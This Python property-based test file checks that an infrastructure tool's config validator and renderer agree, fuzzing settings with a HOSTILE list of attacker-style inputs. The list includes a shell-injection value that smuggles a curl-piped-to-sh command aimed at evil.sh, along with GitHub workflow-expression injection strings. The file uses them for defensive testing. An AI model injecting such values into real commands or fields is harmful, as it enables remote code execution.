"""Property-based (Hypothesis, derandomized: the same examples every run) over the stack settings and the service
overrides: the validator and the render agree.

- every configuration the validator rejects makes the render exit 2, print no traceback and write nothing;
- every configuration it accepts renders (exit 0) artifacts that pass the validators: strict Kubernetes schemas,
  the CRDs, promtool and amtool, and zizmor for the workflows.

The values mix valid ones with what users and attackers type: trailing newlines, template braces, workflow
expressions, shell metacharacters, non-ASCII, reserved names, out-of-range numbers.
"""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from components.config import ConfigError, load_settings
from components.service.load import load_services
from tests.support import yamlio
from tests.support.crds import crd_schemas, validate_custom_resource
from tools.mockrun import ROOT, load_stack_config
from tools.render import render

HOSTILE = ["", "x\n", "{{ .Broken", "${{ github.event.head_commit.message }}", 'a";curl${IFS}evil.sh|sh;"', "é"]
VALUES: dict[str, list[Any]] = {
    "team": ["platform", "ops", "Ops", "kube-system", "a" * 64, *HOSTILE],
    "costCenter": ["cc-1", "cc_1", *HOSTILE],
    "runbookBaseUrl": ["https://docs.example.com/runbooks", "https://x/docs/", "http://x", *HOSTILE],
    "ciVaultAddress": ["", "https://vault.example.com", "https://vault.example.com:8200", *HOSTILE],
    "scrapeInterval": ["15s", "30s", "1m", "4s", "soon"],
    "evaluationInterval": ["15s", "30s", "1m"],
    "prometheusRetention": ["2d", "15d", "0d", "15 days"],
    "prometheusRetentionSize": ["8GB", "9GB", "100GB", "8 GB"],
    "lokiIngestionRateMb": [4, 8, 0, "4"],
    "lokiIngestionBurstMb": [8, 2, 16],
    "storageClass": ["", "fast", "Fast", *HOSTILE],
    "githubManage": [True, False, "yes"],
    "namespaceQuota": ["cpu=2/4 memory=4Gi/8Gi", "cpu=4/2 memory=1Gi/1Gi", "cpu=1 memory=1Gi"],
}
SERVICE: dict[str, list[Any]] = {
    "tag": ["1.0.0", "1.2.3-rc.1", "latest", "é1", "a" * 129, "1.0.0\n"],
    "replicas": [1, 2, 0, 101, "2"],
    "maxReplicas": [0, 4, 1],
    "host": ["", "orders.dev.example.com", "Orders.example.com", "x y", "${{ github.ref }}"],
    "resources": ["cpu=100m/500m memory=128Mi/256Mi", "cpu=1/100m memory=1Gi/1Gi", "big"],
    "canary": [
        {"weights": [50], "pause": "30s"},
        {"weights": [20, 50, 80], "pause": "1m"},
        {"weights": [80, 20]},
        {"pause": "soon"},
    ],
    "colour": ["blue"],
}


def _config(draw: st.DrawFn) -> dict[str, Any]:
    keys = draw(st.lists(st.sampled_from(sorted(VALUES)), max_size=4, unique=True))
    out = {k: draw(st.sampled_from(VALUES[k])) for k in keys}
    skeys = draw(st.lists(st.sampled_from(sorted(SERVICE)), max_size=3, unique=True))
    out["services"] = {"orders-api": {k: draw(st.sampled_from(SERVICE[k])) for k in skeys}}
    return out


configs = st.composite(_config)()


def stack_values() -> dict[str, Any]:
    _, config, secret_keys = load_stack_config("dev")
    return {k.split(":", 1)[1]: v for k, v in config.items() if k.startswith("hardening:") and k not in secret_keys}


def accepted(overrides: dict[str, Any]) -> bool:
    """What the validator alone says: the settings, then the service definitions with their overrides."""
    raw = {k: (json.loads(v) if isinstance(v, str) and v[:1] in ("[", "{") else v) for k, v in stack_values().items()}
    raw.update(overrides)
    try:
        s = load_settings(raw, stack="dev")
        load_services(s.services, ROOT)
    except ConfigError:
        return False
    return True


def _render(overrides: dict[str, Any], out: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = render("dev", out, overrides, stream=io.StringIO(), policy=True)
    return code, capsys.readouterr().err


@pytest.mark.tools
@settings(max_examples=7, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(overrides=configs)
def test_the_validator_and_the_render_agree(
    overrides: dict[str, Any], tmp_path_factory: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path_factory.mktemp("prop") / "dev"
    ok = accepted(overrides)
    code, err = _render(overrides, out, capsys)
    assert "Traceback" not in err, err
    if not ok:
        assert code == 2 and err.strip(), (overrides, code, err)
        assert not out.exists()
        return
    assert code == 0, (overrides, err)
    validate_artifacts(out)


def validate_artifacts(out: Path) -> None:
    files = [p for p in sorted((out / "k8s").rglob("*.yaml")) if p.name != "kustomization.yaml"]
    bin_dir = Path(sys.executable).parent
    proc = subprocess.run(
        [str(bin_dir / "kubernetes-validate"), "--strict", "--quiet", "-k", "1.37.0", *map(str, files)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    errors = [line for line in (proc.stdout + proc.stderr).splitlines() if not line.startswith("WARN")]
    assert proc.returncode == 0 and not errors, errors
    known = {api.split("/")[0] for api, _ in crd_schemas()}
    rules: list[str] = []
    alertmanager = ""
    for path in files:
        for doc in yamlio.load_all(path.read_text()):
            if not doc:
                continue
            if doc["apiVersion"].split("/")[0] in known:
                validate_custom_resource(doc)
            if doc["kind"] == "ConfigMap":
                for name, text in (doc.get("data") or {}).items():
                    if name.endswith((".rules.yaml", "-rules.yaml")) or (name.endswith(".yaml") and "groups:" in text):
                        rules.append(text)
                    if name == "alertmanager.yml" or name == "alertmanager.yaml":
                        alertmanager = text
    tmp = out.parent / "checks"
    tmp.mkdir(exist_ok=True)
    paths = []
    for i, text in enumerate(rules):
        (tmp / f"r{i}.yaml").write_text(text)
        paths.append(str(tmp / f"r{i}.yaml"))
    assert paths, "no rule file in the render"
    check = subprocess.run(["promtool", "check", "rules", *paths], capture_output=True, text=True, timeout=120)
    assert check.returncode == 0, check.stdout + check.stderr
    if alertmanager:
        (tmp / "am.yml").write_text(alertmanager)
        am = subprocess.run(["amtool", "check-config", str(tmp / "am.yml")], capture_output=True, text=True, timeout=60)
        assert am.returncode == 0, am.stdout + am.stderr
    workflows = sorted((out / "workflows").rglob("*.yml"))
    if workflows:
        z = subprocess.run(
            [str(bin_dir / "zizmor"), "--offline", "--no-progress", *map(str, workflows)],
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert z.returncode == 0, z.stdout + z.stderr


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(overrides=configs)
def test_every_rejected_configuration_exits_2_without_a_traceback_and_writes_nothing(
    overrides: dict[str, Any], tmp_path_factory: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    """The unit-tier half: rejected configurations are cheap (they stop before any resource is registered)."""
    if accepted(overrides):
        return
    out = tmp_path_factory.mktemp("prop") / "dev"
    code, err = _render(overrides, out, capsys)
    assert code == 2 and "Traceback" not in err and err.strip(), (overrides, err)
    assert re.search(r"hardening:|services/", err), err
    assert not out.exists()
